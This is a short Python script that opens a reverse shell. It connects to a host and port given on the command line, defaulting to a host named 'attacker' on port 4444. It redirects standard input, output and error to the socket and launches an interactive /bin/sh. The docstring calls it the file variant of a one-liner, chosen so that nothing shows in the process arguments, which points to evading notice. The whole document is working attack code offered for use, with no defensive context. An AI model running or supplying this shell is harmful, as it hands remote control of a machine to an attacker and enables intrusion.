"""A shell for whoever listens: the file variant of the one-liner, so that nothing shows in the arguments."""
import os
import socket
import subprocess
import sys

host, port = (sys.argv[1:] + ["attacker", "4444"])[:2]
s = socket.socket()
s.connect((host, int(port)))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
subprocess.call(["/bin/sh", "-i"])
